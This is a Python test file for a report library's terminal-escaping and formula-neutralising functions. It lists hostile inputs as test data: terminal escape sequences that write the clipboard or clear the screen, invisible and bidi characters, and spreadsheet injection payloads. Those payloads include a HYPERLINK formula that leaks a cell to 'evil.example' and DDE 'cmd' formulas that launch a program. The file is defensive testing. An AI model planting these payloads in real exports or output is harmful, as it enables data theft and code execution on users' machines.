"""Hostile text: nothing reaches a terminal that it would obey or hide, and no cell becomes a formula."""

from __future__ import annotations

import unicodedata
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hanzo_reports.escapes import escape_cell, escape_terminal, neutralise_formula

HOSTILE = [
    "\x1b]52;c;aGFja2Vk\x07",  # writes the clipboard
    "\x1b[2J\x1b[H",  # clears the screen
    "\x9b31m",  # the same in one byte
    "gpt\r\nforged line",
    "gpt\u202eexe.txt",  # read from right to left
    "gpt\u2066x\u2069",
    "gpt\u200b4",
    "gpt\u2028x",
    "\ufeffgpt",
    "gpt\u00ad4",
    "gpt\U000e0041",  # a tag character
    "gpt\u3164",  # a letter that nobody sees
    "gpt\ufe0f",
    "gpt\u00a04",
    "gpt\ud800",  # half a character
    "\x00",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_characters_become_visible(text):
    escaped = escape_terminal(text)
    assert escaped.isprintable()
    assert "\\" in escaped
    assert escaped.encode("utf-8").decode() == escaped


@given(st.text())
def test_any_text_is_printable_and_nothing_printable_is_changed(text):
    escaped = escape_terminal(text)
    assert escaped.isprintable()
    assert {unicodedata.category(character) for character in escaped} & {"Cc", "Cf", "Cs", "Zl", "Zp"} == set()
    if text.isascii() and text.isprintable():
        assert escaped == text


@pytest.mark.parametrize("text", ["gpt-4o [/b]", "山田 太郎", "naïve", "модель", "مُوديل", "🦙", "c:\\models\\x"])
def test_printable_text_of_any_script_stays(text):
    assert escape_terminal(text) == text


def test_line_breaks_stay_where_they_are_asked_for():
    assert escape_terminal("one\ntwo\x1b[0m", keep_line_breaks=True) == "one\ntwo\\x1b[0m"
    assert escape_terminal("one\ntwo") == "one\\ntwo"


@given(st.text(alphabet=" ab\x1b\u3000", max_size=8), st.text(alphabet=" ab\x1b\u3000", max_size=8))
def test_distinct_cells_stay_distinct_after_padding(first, second):
    assert (escape_cell(first).strip() == escape_cell(second).strip()) is (first == second)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@sum (A1)",
    "@cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tname",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1dHYPERLINK(1)",
    "\uff0bcmd|x",
    "\uff0d2+3+cmd|x",
    "\uff20SUM(1)",
    "x;=1+1",  # another cell where a spreadsheet splits at semicolons
    "x\t=1+1",
    "x\n=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_run_is_neutralised(cell):
    neutral = neutralise_formula(cell)
    assert neutral != cell
    assert neutral.replace("'", "") == cell.replace("'", "")
    assert neutralise_formula(neutral) == neutral


@pytest.mark.parametrize(
    "cell",
    ["", "-", "gpt-4o", "@cf/meta/llama-3", "@user", "a@b.example", "-5", "-0.5", "+1.5e-3", "-12%", "-$5.00", "+49 ",
     "a=b", "a-b", "1+1", "x; y", "'=1+1", "claude 3 (new)", "🦙=1"],
)  # fmt: skip
def test_names_and_plain_numbers_stay(cell):
    assert neutralise_formula(cell.strip() if cell == "+49 " else cell) == cell.strip()


@given(st.text(alphabet="=+-@\t\r\n;\uff1d\uff20 a1(|'", max_size=12))
def test_no_cell_begins_a_formula_afterwards(text):
    neutral = neutralise_formula(text)
    assert neutralise_formula(neutral) == neutral
    assert neutral.replace("'", "") == text.replace("'", "")
    lead = neutral.lstrip()[:1]
    assert lead not in {"=", "\uff1d"} or len(neutral.strip()) == 1 or neutral.lstrip()[1] in ";\t\r\n"


@pytest.mark.parametrize("unit", ["\t ", " ", ";", "@a", "-1,", "=", "\u200b", "\n@", "+\t"])
def test_the_time_of_both_escapes_grows_with_the_length(unit):
    lengths = {count: min(_seconds(unit * count) for _ in range(3)) for count in (5_000, 50_000)}
    assert lengths[50_000] < 60 * lengths[5_000] + 0.05  # a hundred times as long, if each pair of characters counted


def _seconds(text):
    start = process_time()
    neutralise_formula(text)
    escape_terminal(text)
    return process_time() - start
